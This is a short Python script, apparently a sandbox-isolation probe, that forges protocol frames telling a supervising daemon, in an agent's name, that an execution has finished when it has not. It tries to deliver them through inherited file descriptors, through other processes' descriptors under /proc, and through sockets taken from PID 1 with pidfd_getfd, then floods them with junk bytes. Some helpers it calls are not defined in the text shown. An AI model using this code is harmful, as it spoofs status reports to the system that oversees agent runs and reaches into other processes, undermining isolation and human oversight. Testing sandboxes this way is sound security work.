# Says to the daemon, in the agent's name, that an execution ended which never was.
import struct

payload = bytes([4, 0x99, 0x7F, 1, 7, 0, 0, 0, 0])
kinds = range(4)
frames = b"".join(struct.pack("<IIB", len(payload), 0, kind) + payload for kind in kinds)
junk = b"\xff" * 64


def forge(descriptor):
    os.set_blocking(descriptor, False)
    return os.write(descriptor, frames + junk)


def stolen():
    process = os.pidfd_open(1)
    hit = []
    for number in range(3, 256):
        try:
            descriptor = syscall(438, process, number, 0)
            if os.path.basename(os.readlink(f"/proc/self/fd/{descriptor}")).startswith("socket:"):
                hit.append(forge(descriptor))
        except OSError:
            pass
    return must(hit)


def inherited():
    hit = []
    for number in range(3, 4096):
        try:
            hit.append(os.write(number, frames))
        except OSError:
            pass
    return must(hit)


def through_proc():
    hit = []
    for process in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
        for number in range(3, 256):
            try:
                hit.append(forge(os.open(f"/proc/{process}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)))
            except OSError:
                pass
    return must(hit)


attempt("inherited", inherited)
attempt("through /proc", through_proc)
attempt("stolen", stolen)
